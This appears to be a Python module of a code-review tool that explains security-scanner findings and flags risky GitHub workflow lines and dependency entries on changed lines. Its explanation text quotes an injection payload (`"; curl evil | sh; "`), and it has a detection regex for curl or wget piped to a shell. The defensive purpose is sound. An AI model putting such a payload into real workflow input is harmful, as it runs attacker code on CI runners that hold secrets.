"""The security stream: the L5 gate's findings explained for people (what, why, how to
fix, with the tool's docs and the CWE), plus risky workflow patterns and risky new
dependencies on the changed lines."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import PurePosixPath

from gates.config import Severity
from gates.model import Finding
from reviewers import guidance, texts
from reviewers.model import Comment, ReviewInput, Stream, lines_of

SECURITY_TOOLS = frozenset({"bandit", "secrets", "detect-secrets", "zizmor", "pip-audit"})
CREDENTIAL_TOOLS = frozenset({"secrets", "detect-secrets"})
CWE_URL = "https://cwe.mitre.org/data/definitions/{cwe}.html"

# Workflow lines, each checked alone (linear: one bounded pattern per line).
_EVENT_IN_RUN = re.compile(
    r"\$\{\{\s{0,20}github\.event\.[A-Za-z_.]{0,80}"
    r"(title|body|message|head_ref|label|name|email|default_branch|ref)\b"
)
_HEAD_REF = re.compile(r"\$\{\{\s{0,20}github\.head_ref\s{0,20}\}\}")
_PIPE_TO_SHELL = re.compile(r"\b(curl|wget)\b[^|\n]{0,400}\|\s{0,10}(sudo\s{1,10})?(ba|z)?sh\b")
WORKFLOW_PATTERNS: tuple[tuple[str, re.Pattern[str], Severity, str], ...] = (
    (
        "script-injection",
        _EVENT_IN_RUN,
        Severity.HIGH,
        "Text that anyone can write (an issue title, a branch name, a commit message) is "
        'expanded into the script before it runs: a title like `"; curl evil | sh; "` '
        'runs. Pass it through `env:` and use the variable (`"$TITLE"`) instead.',
    ),
    (
        "script-injection",
        _HEAD_REF,
        Severity.HIGH,
        "A fork chooses its branch name, and it is expanded into the script before it "
        "runs. Pass it through `env:` and quote the variable.",
    ),
    (
        "pull-request-target",
        re.compile(r"^\s{0,40}-?\s{0,4}pull_request_target\s{0,4}:?\s{0,40}$"),
        Severity.MEDIUM,
        "`pull_request_target` runs with this repository's secrets and a write token on "
        "pull requests from forks. Never check out or run the pull request's code in it; "
        "use `pull_request` unless the job only labels or comments.",
    ),
    (
        "write-all",
        re.compile(r"^\s{0,40}permissions\s{0,4}:\s{0,4}write-all\b"),
        Severity.MEDIUM,
        "Every job gets a token that can write to everything. Grant the few scopes each "
        "job needs (`contents: read` is enough for most).",
    ),
    (
        "pipe-to-shell",
        _PIPE_TO_SHELL,
        Severity.MEDIUM,
        "A script downloaded and run in one step cannot be reviewed or pinned. Download a "
        "release with a checksum, or use a pinned action.",
    ),
)
_REQUIREMENTS = re.compile(r"(^|/)(requirements|constraints)[^/]{0,60}\.(txt|in)$")
_URL_DEP = re.compile(r"(git\+|hg\+|svn\+|https?://|file:)")
_INDEX = re.compile(r"^\s{0,20}--(extra-index-url|index-url|trusted-host)\b")
_NAME_ONLY = re.compile(
    r"^\s{0,20}([A-Za-z0-9][A-Za-z0-9._-]{0,100})(\[[^\]]{0,100}\])?\s{0,20}(#.{0,400})?$"
)


def review(inp: ReviewInput) -> list[Comment]:
    comments = [_explained(inp, f) for f in inp.findings if f.tool in SECURITY_TOOLS]
    taken = {(f.path, f.start_line) for f in inp.findings if f.tool in SECURITY_TOOLS}
    for path, file in sorted(inp.diff.files.items()):
        if file.deleted or file.binary or not file.added:
            continue
        text = inp.head(path) or ""
        if _is_workflow(path):
            comments += [
                c for c in _workflow(inp, path, text, file.added) if (path, c.line) not in taken
            ]
        elif _REQUIREMENTS.search(path):
            comments += _requirements(inp, path, text, file.added)
    return comments


def blocking(inp: ReviewInput, severity: Severity) -> bool:
    return severity.rank >= inp.settings.blocking_severity.rank


# ------------------------------------------------------------------------------ findings


def _explained(inp: ReviewInput, finding: Finding) -> Comment:
    if finding.tool in CREDENTIAL_TOOLS:
        title, body = texts.CREDENTIAL_TITLE, texts.CREDENTIAL_BODY.format(message=finding.message)
    else:
        title = texts.SECURITY_TITLE.format(rule=finding.rule, message=finding.message)
        body = texts.SECURITY_BODY.format(
            message=finding.message,
            why=guidance.why(finding.cwe) or texts.GENERIC_WHY,
            how=guidance.how(finding.rule) or texts.GENERIC_HOW,
        )
    links = _links(finding)
    return Comment(
        stream=Stream.SECURITY,
        rule=finding.rule,
        path=finding.path,
        line=finding.start_line,
        end_line=finding.end_line,
        title=title,
        body=body + (texts.SECURITY_LINKS.format(links=links) if links else ""),
        severity=finding.severity,
        # The message, never the code: the code line may hold the credential itself.
        snippet=finding.message,
        blocking=blocking(inp, finding.severity),
        origin=finding.fingerprint,
    )


def _links(finding: Finding) -> str:
    links = []
    if finding.url:
        links.append(f"[{finding.tool} {finding.rule}]({finding.url})")
    if finding.cwe is not None:
        links.append(f"[CWE-{finding.cwe}]({CWE_URL.format(cwe=finding.cwe)})")
    return " · ".join(links)


# ----------------------------------------------------------------------------- workflows


def _is_workflow(path: str) -> bool:
    pure = PurePosixPath(path)
    return pure.parent.as_posix() == ".github/workflows" and pure.suffix in (".yml", ".yaml")


def _workflow(inp: ReviewInput, path: str, text: str, added: frozenset[int]) -> Iterator[Comment]:
    for number, row in enumerate(text.splitlines(), start=1):
        if number not in added:
            continue
        for rule, pattern, severity, why in WORKFLOW_PATTERNS:
            if pattern.search(row[:2000]):
                yield Comment(
                    stream=Stream.SECURITY,
                    rule=rule,
                    path=path,
                    line=number,
                    title=texts.WORKFLOW_TITLE.format(what=rule.replace("-", " ")),
                    body=why,
                    severity=severity,
                    snippet=row,
                    blocking=blocking(inp, severity),
                )
                break


# -------------------------------------------------------------------------- dependencies

DEPENDENCY_WHY = {
    "url-dependency": (
        Severity.MEDIUM,
        "This installs code straight from a URL or repository: no release, no hash, and "
        "it can change under you. Depend on a published release, or pin a commit and a hash.",
    ),
    "package-index": (
        Severity.HIGH,
        "An extra package index lets a package of the same name there win over PyPI's "
        "(dependency confusion). Use one index, or pin hashes (`--require-hashes`).",
    ),
    "unpinned": (
        Severity.LOW,
        "Without a version bound, every install may pull a different release, including "
        "a broken or compromised one. Pin it (`==`) or at least bound it (`>=,<`).",
    ),
}


def _requirements(
    inp: ReviewInput, path: str, text: str, added: frozenset[int]
) -> Iterator[Comment]:
    for number, row in enumerate(text.splitlines(), start=1):
        rule = _dependency_rule(row[:1000]) if number in added else None
        if rule is None:
            continue
        severity, why = DEPENDENCY_WHY[rule]
        yield Comment(
            stream=Stream.SECURITY,
            rule=rule,
            path=path,
            line=number,
            title=texts.DEPENDENCY_TITLE.format(what=row.strip()[:80]),
            body=why,
            severity=severity,
            snippet=lines_of(text, number),
            blocking=blocking(inp, severity),
        )


def _dependency_rule(row: str) -> str | None:
    stripped = row.strip()
    if not stripped or stripped.startswith("#"):
        return None
    if _INDEX.match(row):
        return "package-index"
    if stripped.startswith("-"):
        return None  # -r, -c, -e . and other options
    if _URL_DEP.search(stripped):
        return "url-dependency"
    return "unpinned" if _NAME_ONLY.match(row) else None
